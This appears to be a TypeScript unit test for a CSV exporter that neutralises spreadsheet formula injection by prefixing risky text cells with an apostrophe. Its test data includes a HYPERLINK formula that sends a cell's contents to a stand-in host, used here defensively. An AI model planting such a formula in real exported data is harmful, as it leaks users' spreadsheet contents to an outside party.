import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseCsv } from './csv.ts';
import { tableCsv } from './table-csv.ts';
import { amount, date, text } from './xlsx.ts';

describe('tableCsv: formula injection', () => {
  it("prefixes text cells that start like a formula with ', and writes amounts and dates as they are", () => {
    const csv = tableCsv({
      header: ['customer', 'total', 'asOf'],
      rows: [
        [text('=HYPERLINK("http://x.example/?"&A1,"Klick")'), amount('-12.50', 2), date('2026-03-31')],
        [text('@SUM(1+1)'), amount('-5', 0), null],
        [text('-Rabatt GmbH'), amount('1200.000', 3), null],
        [text('Müller Bau GmbH'), amount('0.00', 2), null],
      ],
    });
    assert.deepEqual(
      parseCsv(csv).rows.map((r) => r.values),
      [
        ['\'=HYPERLINK("http://x.example/?"&A1,"Klick")', '-12.50', '2026-03-31'],
        ["'@SUM(1+1)", '-5', ''],
        ["'-Rabatt GmbH", '1200.000', ''],
        ['Müller Bau GmbH', '0.00', ''],
      ],
    );
  });
});
